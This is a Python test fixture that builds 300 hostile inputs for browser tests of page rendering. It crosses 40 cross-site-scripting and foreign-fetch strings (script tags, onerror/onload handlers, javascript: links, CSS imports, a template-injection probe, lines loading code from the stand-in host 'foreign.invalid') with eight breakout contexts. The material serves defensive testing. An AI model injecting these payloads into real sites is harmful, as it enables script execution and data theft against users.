"""Hostile texts for the tests of pages: 40 ways to run a script or fetch something, each out of eight places.

A browser test defines `ran()`, which no page may call, and counts requests to anything but the server.
"""

from __future__ import annotations

FOREIGN = "http://foreign.invalid"
"""What nothing on a page may be fetched from or sent to."""

KINDS = (
    "<script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<script src=http://foreign.invalid/a.js></script>",
    "<script type=module>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<img src=x onerror=ran()>",
    "<img src=http://foreign.invalid/a.png>",
    "<img srcset='http://foreign.invalid/a.png 1x'>",
    "<image href=http://foreign.invalid/a.png>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><use href='http://foreign.invalid/a.svg#a'></use></svg>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>",
    "<body onload=ran()>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data=http://foreign.invalid/a></object>",
    "<embed src=http://foreign.invalid/a>",
    "<link rel=stylesheet href=http://foreign.invalid/a.css>",
    "<link rel=prefetch href=http://foreign.invalid/a>",
    "<style>@import 'http://foreign.invalid/a.css';</style>",
    "<style>*{background:url(http://foreign.invalid/a)}</style>",
    "<div style=background:url(http://foreign.invalid/a)>a</div>",
    "<meta http-equiv=refresh content='0;url=http://foreign.invalid/'>",
    "<base href=http://foreign.invalid/>",
    "<form action=http://foreign.invalid/><button autofocus onfocus=ran()>a</button></form>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>a</details>",
    "<video src=x onerror=ran()></video>",
    "<audio src=http://foreign.invalid/a autoplay></audio>",
    "<marquee onstart=ran()>a</marquee>",
    "<a href=javascript:ran() id=compare data-key=1>a</a>",
    "<a href='http://foreign.invalid/' ping='http://foreign.invalid/'>a</a>",
    "<template><script>ran()</script></template>",
    "<noscript><img src=x onerror=ran()></noscript>",
    "[a](javascript:ran()) ![b](http://foreign.invalid/a.png)",
    "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "&lt;script&gt;ran()&lt;/script&gt;&#60;img src=x onerror=ran()&#62;",
    "\u202e<script>\u2028ran()</script>\u2069\ufeff\x00\x0b",
)
PLACES = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title></style></script>{}",
    "-->{}<!--",
    "]]>{}<![CDATA[",
    "`${{{}}}`\\u003c\\x3c{}",
)
PAYLOADS = tuple(place.replace("{}", kind) for place in PLACES for kind in KINDS)[:300]
